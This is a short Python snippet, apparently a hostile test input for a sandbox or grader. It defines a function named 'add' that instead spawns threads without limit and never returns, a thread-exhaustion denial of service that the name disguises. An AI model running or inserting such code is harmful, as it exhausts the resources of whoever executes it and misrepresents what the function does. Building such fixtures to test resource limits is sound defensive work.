# As many threads as it can get; then waits for ever.
import threading, time


def add(a, b):
    while True:
        try:
            threading.Thread(target=time.sleep, args=(1000,), daemon=True).start()
        except RuntimeError:
            time.sleep(0.01)
